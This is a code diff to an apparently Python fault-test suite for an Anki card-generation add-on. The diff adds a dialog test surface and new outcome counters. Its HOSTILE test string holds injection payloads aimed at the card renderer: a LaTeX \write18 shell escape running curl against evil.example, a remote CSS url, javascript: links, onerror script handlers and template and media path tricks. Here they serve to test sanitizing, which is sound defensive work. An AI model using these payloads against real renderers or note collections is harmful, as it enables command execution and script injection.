@@ -1,10 +1,11 @@
 """The fault suite: what can go wrong around a run, as scenarios measured the same way on every surface.
 
-`tests/test_faults.py` asserts them, `bench/faults.py` tabulates them. A server fault hits the first attempt
-of every step, so retries and re-asks must recover, and every attempt for one topic (`DOOMED`, in a batch of
-its own), so that topic fails for good and the run must end with the other topics' cards and one clear
-error. Other faults break the source text, the settings, or the learner presses Stop or the run's time runs
-out.
+`tests/test_faults.py` asserts them on the pipeline and the command line, `tests/ui/test_dialog_faults.py`
+through the Generate Cards window of a real Anki (`tests/ui/dialog_faults.py`), and `bench/faults.py`
+tabulates them. A server fault hits the first attempt of every step, so retries and re-asks must recover,
+and every attempt for one topic (`DOOMED`, in a batch of its own), so that topic fails for good and the run
+must end with the other topics' cards and one clear error. Other faults break the source text, the
+settings, or the learner presses Stop or the run's time runs out.
 
 Each run is measured into an `Outcome`:
 - made: the cards the server delivered in valid Q&A Generator replies (a reply held back, dropped, cut or
@@ -29,7 +30,6 @@ import subprocess
 import sys
 import tempfile
 import threading
-import time
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -72,7 +72,7 @@ HOSTILE = (
     '</iframe><p style="background: url(https://evil.example/c.css)">s</p>'
     " [latex]\\write18{curl evil.example}[/latex] [$]x[/$] \\(\\href{javascript:alert(1)}{m}\\)"
     " [sound:../../evil.mp3] [anki:tts lang=en_US]pwned[/anki:tts] {{Back}} {{FrontSide}}"
-    " &#91;latex]y&#91;/latex] <!-- c -->"
+    ' &#91;latex]y&#91;/latex] <!-- c --><img src=y onerror="window.aicgPwned=1">'
 )
 """Appended to every card text the model writes in the hostile-content faults."""
 HOSTILE_SHORT = " <img src=x onerror=alert(1)>[sound:e.mp3][$]x[/$]\\(\\href{javascript:x}{m}\\){{Back}}"
@@ -107,7 +107,9 @@ class Fault:
     """Whether the run still ends with cards."""
     error: str | None = None
     """A phrase the errors must hold."""
-    surfaces: tuple[str, ...] = ("pipeline", "cli")
+    dialog_error: str | None = None
+    """What the Generate Cards window says instead, where it refuses to start the run itself."""
+    surfaces: tuple[str, ...] = ("pipeline", "cli", "dialog")
 
 
 @dataclass
@@ -124,11 +126,13 @@ class Outcome:
     """Requests the run made (attempts included), as it counts them."""
     cancelled: bool = False
     stall_ms: float | None = None
-    """The main thread's worst stall while the run worked (surfaces where one is measured)."""
+    """The main thread's worst stall while the run worked: the dialog's (tests/ui/dialog_faults.py)."""
+    not_added: int = 0
+    """Accepted cards that Add neither added nor skipped as already in the collection (the dialog)."""
 
     @property
     def lost(self) -> int:
-        return max(0, self.made - self.cards - self.left_out - self.repeats)
+        return max(0, self.made - self.cards - self.left_out - self.repeats) + self.not_added
 
     @property
     def clear(self) -> bool:
@@ -301,6 +305,7 @@ def _closed_port() -> str:
 
 
 FAST = {"llm": {"request_timeout": 0.5}}
+PASTE = "Paste some text first."
 
 FAULTS: list[Fault] = [
     Fault("connection refused", base_url=_closed_port(), cards=False, error="Could not reach"),
@@ -325,8 +330,10 @@ FAULTS: list[Fault] = [
         error="steps, the limit for the orchestrator",
     ),
     Fault("hostile HTML, CSS, LaTeX, media, templates", hostile, everywhere=True),
-    Fault("source: empty", text="", cards=False, error="no words to learn from"),
-    Fault("source: whitespace", text=" \n\t \n", cards=False, error="no words to learn from"),
+    Fault("source: empty", text="", cards=False, error="no words to learn from", dialog_error=PASTE),
+    Fault(
+        "source: whitespace", text=" \n\t \n", cards=False, error="no words to learn from", dialog_error=PASTE
+    ),
     Fault("source: only images and sound", text='<img src="a.png"> [sound:b.mp3]', cards=False),
     Fault("source: binary", text=bytes(range(256)) * 64, cards=False),
     Fault("source: 1 MB", text=TEXT * 1500, error="too long for one run"),
@@ -368,7 +375,7 @@ FAULTS: list[Fault] = [
         "settings: wrong types in config.json",
         config={"temperature": "warm", "max_concurrency": "four", "math": 3},
         error="Temperature should be a valid number",
-        surfaces=("pipeline",),
+        surfaces=("pipeline", "dialog"),
     ),
 ]
 
@@ -415,27 +422,9 @@ def run_pipeline(fault: Fault) -> Outcome:
         settings = settings_from(checked.values)
         run = PipelineRun([Source(text=source_text(fault))], settings, on_event=on_event)
         run.start()
-        stall = heartbeat(lambda: run.result(timeout=0) is not None)
-        outcome = measure(run.result(), script.made, seen)
-        outcome.stall_ms = stall
+        outcome = measure(run.result(timeout=120), script.made, seen)
         outcome.errors[:0] = checked.problems  # the dialog shows them above the run
         return outcome
-
-
-def heartbeat(finished: Callable[[], bool], period: float = 0.01, limit: float = 120.0) -> float:
-    """Beat every `period` on this thread until `finished()`; the longest a beat came late, in ms. With the
-    run in its own thread, this is how long the run kept this thread (in the dialog: Qt's) from running."""
-    worst, deadline = 0.0, time.monotonic() + limit
-    while time.monotonic() < deadline:
-        try:
-            if finished():
-                return worst * 1000
-        except TimeoutError:
-            pass
-        before = time.monotonic()
-        time.sleep(period)
-        worst = max(worst, time.monotonic() - before - period)
-    raise TimeoutError(f"the run did not end within {limit:g} s")
 
 
 def run_cli(fault: Fault, folder: Path) -> Outcome:
@@ -502,11 +491,6 @@ def measure(result: RunResult, made: int, progress: Sequence[str]) -> Outcome:
     """An Outcome from a run's result and its progress messages; the cards are inserted into a fresh
     collection and rendered."""
     left_out = sum(e.message.startswith("A card was left out.") for e in result.errors)
-    repeats = sum(
-        line.count(" changed: Dropped ") + line.count("; Dropped ")
-        for line in progress
-        if line.startswith("Formatter: ")
-    )
     ids = [card.id for card in result.cards]
     problems = [
         f"card {card.id} {name}: {problem}"
@@ -527,12 +511,21 @@ def measure(result: RunResult, made: int, progress: Sequence[str]) -> Outcome:
         cards=len(result.cards),
         made=made,
         left_out=left_out,
-        repeats=repeats,
+        repeats=repeats_in(progress),
         duplicates=max(0, len(result.cards) - made) + len(ids) - len(set(ids)),
         unsafe=problems,
         errors=[e.message for e in result.errors],
         requests=result.usage.requests,
         cancelled=result.cancelled,
+    )
+
+
+def repeats_in(progress: Sequence[str]) -> int:
+    """Cards the run dropped as repeats of other cards, as its progress messages said (the Formatter's)."""
+    return sum(
+        line.count(" changed: Dropped ") + line.count("; Dropped ")
+        for line in progress
+        if line.startswith("Formatter: ")
     )
 
 
